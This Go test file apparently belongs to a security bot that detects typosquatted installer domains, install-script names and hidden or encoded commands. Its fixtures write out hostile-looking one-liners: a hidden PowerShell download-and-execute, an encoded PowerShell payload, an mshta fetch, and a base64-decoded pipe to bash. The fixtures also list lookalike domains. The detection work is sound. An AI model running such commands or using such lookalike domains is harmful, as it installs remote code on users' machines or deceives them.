package bot

import (
	"testing"

	"github.com/immunebot/immune/bot/linkx"
)

// TestInstallerLookalike: names that take a real installer's (its name
// run into others, its domain before another, one edit from it, a short
// name with a setup or host word) are lookalikes; the makers' own names
// and other projects whose names only hold a short one (perlbrew.pl,
// get.k3sup.dev) are not.
func TestInstallerLookalike(t *testing.T) {
	for host, want := range map[string]bool{
		"bun-sh.com": true, "bunn.sh": true, "get.dockerr.com": true, "astral-uv.com": true, "getscoop.cc": true,
		"get.scoop.sh.ru": true, "get.docker.com.install-cdn.net": true, "get.dokcer.com": true, "npmjs-cdn.com": true, "massgrav.net": true, "massgrave-dev.com": true, "macos-brew.org": true, "k3ss.io": true,
		"pyenv-run.com": true, "community-chocolatey.org": true,
		"bun.sh": false, "get.docker.com": false, "astral.sh": false, "get.scoop.sh": false, "install.perlbrew.pl": false,
		"get.k3sup.dev": false, "brew.sh": false, "get.k0s.sh": false, "pyenv.run": false, "npmjs.org": false, "massgrave.dev": false, "install.python-poetry.org": false,
	} {
		l, ok := linkx.Parse("http://" + host + "/install.sh")
		if !ok {
			t.Fatalf("%s: not parsed", host)
		}
		if got := installerLookalike(&l); got != want {
			t.Errorf("installerLookalike(%s) = %v, want %v", host, got, want)
		}
	}
}

// TestInstallScriptNames: the names projects give install scripts, not a
// program's or a page's.
func TestInstallScriptNames(t *testing.T) {
	for f, want := range map[string]bool{
		"install.sh": true, "install": true, "install.ps1": true, "setup_22.x": true, "dotnet-install.ps1": true,
		"install-opentofu.sh": true, "bootstrap-salt.sh": true, "kickstart.sh": true, "get-pip.py": true,
		"setup.exe": false, "installer.msi": false, "index.html": false, "fix.sh": false, "": false, "getting-started": false,
	} {
		if got := installScript(f); got != want {
			t.Errorf("installScript(%q) = %v, want %v", f, got, want)
		}
	}
}

// TestDrawnLabelAndHiddenOrEncoded: random labels and commands run out of
// sight or encoded.
func TestDrawnLabelAndHiddenOrEncoded(t *testing.T) {
	for label, want := range map[string]bool{"qzx8m": true, "8x2kq": true, "a1b2c3": true, "k3s": false, "k0s": false, "rke2": false, "k3sup": false, "docker": false} {
		if got := drawnLabel(label); got != want {
			t.Errorf("drawnLabel(%q) = %v, want %v", label, got, want)
		}
	}
	for text, want := range map[string]bool{
		"powershell -w hidden -c \"irm http://a.com | iex\"":                 true,
		"powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA=":               true,
		"mshta http://a.com/x.hta":                                           true,
		"echo Y3VybCBodHRw | base64 -d | bash":                               true,
		"curl -fsSL http://deb.nodesource.com/setup_22.x | sudo -E bash -":   false,
		"powershell -NoProfile -ExecutionPolicy Bypass -c \"irm a.com|iex\"": false,
	} {
		if got := hiddenOrEncoded(text); got != want {
			t.Errorf("hiddenOrEncoded(%q) = %v, want %v", text, got, want)
		}
	}
}
